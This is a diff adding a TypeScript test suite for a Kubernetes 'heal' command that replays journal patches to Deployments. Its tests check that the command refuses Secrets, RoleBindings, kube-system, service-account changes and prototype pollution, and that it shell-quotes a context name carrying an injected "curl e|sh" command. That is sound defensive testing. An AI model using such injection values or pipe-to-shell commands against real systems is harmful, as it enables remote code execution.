@@ -1,0 +1,111 @@
+import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import type { Progress } from '../model/progress.ts';
+import { fingerprint } from '../record/identity.ts';
+import { ListeningServer } from '../sys/api-server.fake.ts';
+import { real } from '../sys/certificates.fake.ts';
+import { kubeconfigOf } from '../sys/kubeconfig.fake.ts';
+import { healableContext } from './heal-context.ts';
+
+const progress: Progress = { plan() {}, now() {}, note() {}, step: (_, work) => work() };
+
+describe('a context is healed', () => {
+  let folder: string;
+  let server: ListeningServer;
+  const environment = { KUBECONFIG: process.env.KUBECONFIG, XDG_STATE_HOME: process.env.XDG_STATE_HOME };
+  beforeEach(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'holdfast-heal-'));
+    server = new ListeningServer(real);
+    await server.listen();
+    process.env.XDG_STATE_HOME = folder;
+    process.env.KUBECONFIG = join(folder, 'kubeconfig');
+    await writeFile(process.env.KUBECONFIG, kubeconfigOf('prod', { server: server.url, ca: real.cert }));
+  });
+  afterEach(async () => {
+    for (const [name, value] of Object.entries(environment)) {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+    }
+    await server.close();
+    await rm(folder, { recursive: true });
+  });
+
+  const cluster = () => ({
+    context: 'prod',
+    server: server.url,
+    caSha256: fingerprint(real.cert),
+    kubeSystemUid: 'uid-1',
+  });
+  const patch = (ref: object = {}, change: object = {}) => ({
+    kind: 'patch',
+    cluster: cluster(),
+    ref: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web', namespace: 'shop', ...ref },
+    changes: [{ path: ['spec', 'replicas'], before: 2, after: 4, ...change }],
+  });
+  const healed = async (...deeds: object[]) => {
+    const { journal, heal } = healableContext('prod');
+    await mkdir(dirname(journal), { recursive: true });
+    await writeFile(journal, deeds.map((deed, seq) => `${JSON.stringify({ at: 1, seq, deed })}\n`).join(''));
+    return heal({ progress, signal: AbortSignal.timeout(10_000) });
+  };
+
+  it('by a JSON Patch that tests what the journal says', async () => {
+    const status = { observedGeneration: 1, replicas: 2, updatedReplicas: 2, availableReplicas: 2 };
+    const spec = { replicas: 4, template: {}, selector: {} };
+    const web = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web' }, spec };
+    server.deployment = JSON.stringify(web);
+    server.onPatch = () => {
+      server.deployment = JSON.stringify({ ...web, spec: { ...spec, replicas: 2 }, status });
+    };
+    assert.equal(await healed(patch()), 1);
+    const sent = server.asked.filter(({ method }) => method === 'PATCH');
+    assert.deepEqual(
+      sent.map(({ body }) => JSON.parse(body)),
+      [
+        [
+          { op: 'test', path: '/spec/replicas', value: 4 },
+          { op: 'replace', path: '/spec/replicas', value: 2 },
+        ],
+      ],
+    );
+  }).timeout(20_000);
+
+  const refused: { readonly [what: string]: readonly [() => object, RegExp] } = {
+    'a node that is said to be in a namespace': [
+      () => patch({ apiVersion: 'v1', kind: 'Node', name: 'n1' }, { path: ['spec', 'unschedulable'], after: true }),
+      /only Deployments are patched/,
+    ],
+    'a RoleBinding': [() => patch({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding' }), /only Deploy/],
+    'a Secret': [() => patch({ apiVersion: 'v1', kind: 'Secret' }), /only Deployments/],
+    'a look-alike of a Deployment': [() => patch({ apiVersion: 'evil.example/v1' }), /only Deployments/],
+    'kube-system': [() => patch({ namespace: 'kube-system' }), /kube-system is Kubernetes' own/],
+    'another field': [
+      () => patch({}, { path: ['spec', 'template', 'spec', 'serviceAccountName'], before: 'admin', after: 'web' }),
+      /serviceAccountName may not be changed/,
+    ],
+    'a whole container': [
+      () => patch({}, { path: ['spec', 'template', 'spec', 'containers', { name: 'evil' }], before: {}, after: null }),
+      /containers\.evil may not be changed/,
+    ],
+    'a prototype': [() => patch({}, { path: ['__proto__', 'polluted'], after: 'yes' }), /:2: not a line of a journal/],
+    'a deed of a lab': [() => ({ kind: 'namespace', namespace: 'holdfast-x' }), /not a deed on a cluster that is not/],
+  };
+  for (const [what, [deed, why]] of Object.entries(refused)) {
+    it(`never where the journal names ${what}, before anything is sent`, async () => {
+      await assert.rejects(healed(patch(), deed()), why);
+      assert.deepEqual(server.asked, []);
+      assert.ok(!('polluted' in {}));
+      assert.match(await readFile(healableContext('prod').journal, 'utf8'), /replicas/);
+    });
+  }
+
+  it('by a command that a shell takes as it is meant', () => {
+    assert.equal(healableContext('prod').healCommand, './holdfast heal --context prod --i-know-this-cluster');
+    assert.equal(
+      healableContext("x'; curl e|sh").healCommand,
+      `./holdfast heal --context 'x'\\''; curl e|sh' --i-know-this-cluster`,
+    );
+  });
+});
